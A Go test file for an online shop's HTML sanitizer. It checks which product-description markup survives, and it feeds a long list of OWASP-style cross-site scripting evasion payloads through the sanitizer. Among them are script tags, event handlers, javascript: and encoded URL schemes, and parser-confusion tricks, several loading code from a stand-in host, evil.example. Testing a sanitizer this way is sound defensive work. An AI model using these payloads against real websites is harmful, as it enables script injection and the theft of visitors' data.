package catalog_test

import (
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/shopgraph/shopgraph/internal/catalog"
)

// TestSanitizeHTML: what describes a product stays, and what could do harm goes.
func TestSanitizeHTML(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ in, want string }{
		{"<h2>Care</h2><p>Wash <em>by hand</em>.</p>", "<h2>Care</h2><p>Wash <em>by hand</em>.</p>"},
		{"<ul><li>One</li></ul><ol><li>Two</li></ol>", "<ul><li>One</li></ul><ol><li>Two</li></ol>"},
		{`<table><tr><th colspan="2">Size</th></tr></table>`, `<table><tr><th colspan="2">Size</th></tr></table>`},
		{`<a href="https://example.com/care">Care</a>`, `<a href="https://example.com/care" rel="nofollow">Care</a>`},
		{`<a href="/pages/care" rel="opener" target="_blank">Care</a>`, `<a href="/pages/care" rel="nofollow">Care</a>`},
		{" Five < six & seven ", "Five &lt; six &amp; seven"},
		{`<p style="position:fixed" class="x" id="cart" onclick="a()">x</p>`, "<p>x</p>"},
		{`<img src="https://example.com/a.png">x`, "x"},
		{`<style>p { color: red }</style>x`, "x"},
		{`<form action="https://evil.example"><input name="password">x</form>`, "x"},
		{"", ""},
	} {
		if got := catalog.SanitizeHTML(c.in); got != c.want {
			t.Errorf("%s\nis made %s\nwant    %s", c.in, got, c.want)
		}
	}
}

// attacks are from OWASP's cheat sheet for evading filters, and of what parsers make of broken markup.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`<<SCRIPT>alert(1);//\<</SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/xss src="https://evil.example/x.js"></script>`,
	`<img src=x onerror=alert(1)>`,
	`<IMG """><SCRIPT>alert(1)</SCRIPT>"\>`,
	`<p onmouseover="alert(1)">x</p>`,
	`<p/onclick=alert(1)>x</p>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\" \u0001javascript:alert(1)\">x</a>",
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="https://example.com" onfocus=alert(1) autofocus>x</a>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<link rel="stylesheet" href="javascript:alert(1)"><base href="https://evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!--><script>alert(1)</script>-->`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<xmp><p title="</xmp><script>alert(1)</script>">`,
	`<form><button formaction="javascript:alert(1)">x</button></form>`,
	`<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`,
	`<template><script>alert(1)</script></template>`,
	`<td background="javascript:alert(1)">x</td>`,
	`<p>x</p` + "\x00" + `><scr` + "\x00" + `ipt>alert(1)</script>`,
}

// TestSanitizeHTMLAgainstAttacks reads what is left of each attack as a browser would: it has only
// elements and attributes that do nothing.
func TestSanitizeHTMLAgainstAttacks(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks {
		left := catalog.SanitizeHTML(attack)
		for z := html.NewTokenizer(strings.NewReader(left)); z.Next() != html.ErrorToken; {
			if token := z.Token(); token.Type != html.TextToken {
				checkHarmless(t, attack, token)
			}
		}
		if again := catalog.SanitizeHTML(left); again != left {
			t.Errorf("%q\nis made %q\nand then %q", attack, left, again)
		}
	}
}

func checkHarmless(t *testing.T, attack string, token html.Token) {
	t.Helper()
	if !strings.Contains(" p div a table tr td th ul ol li ", " "+token.Data+" ") {
		t.Errorf("%q leaves %v", attack, token)
	}
	for _, a := range token.Attr {
		isLink := a.Key == "href" && strings.HasPrefix(a.Val, "https://") || a.Key == "rel" && a.Val == "nofollow"
		if !isLink {
			t.Errorf("%q leaves %v", attack, token)
		}
	}
}

// TestDescriptionHTML: without a rich description it is the plain text.
func TestDescriptionHTML(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ plain, rich, want string }{
		{"", "", ""},
		{"Plain.", "<p>Rich.</p>", "<p>Rich.</p>"},
		{"One <b> & two.\nThree.\r\n\r\n\n Four. \n", "", "<p>One &lt;b&gt; &amp; two.<br>Three.</p><p>Four.</p>"},
	} {
		if got := catalog.DescriptionHTML(c.rich, c.plain); got != c.want {
			t.Errorf("%q, %q is shown as %q, want %q", c.plain, c.rich, got, c.want)
		}
	}
}

func TestPlainText(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "",
		"<p>Sweet &amp; <b>round</b>.</p><p>Of<br>Huila.</p>":    "Sweet & round.\n\nOf\nHuila.",
		"<ul><li>Grind.</li><li>Pour.</li></ul>":                 "Grind.\n\nPour.",
		"<h2>Care</h2>\n<p>Hot water&nbsp;only: 1 &lt; 2.</p>\n": "Care\n\nHot water\u00a0only: 1 < 2.",
	} {
		if got := catalog.PlainText(in); got != want {
			t.Errorf("%q is %q, want %q", in, got, want)
		}
	}
}
